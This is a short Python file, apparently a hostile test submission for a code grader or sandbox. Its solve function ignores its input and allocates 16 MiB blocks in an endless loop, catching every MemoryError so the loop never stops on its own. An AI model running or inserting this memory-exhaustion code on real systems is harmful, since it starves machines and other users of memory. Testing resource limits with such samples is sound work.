"""Grows by 16 MiB at a time and catches every MemoryError, until somebody stops it."""

kept = []


def solve(x):
    while True:
        try:
            kept.append(b"\1" * 2**24)
        except MemoryError:
            continue
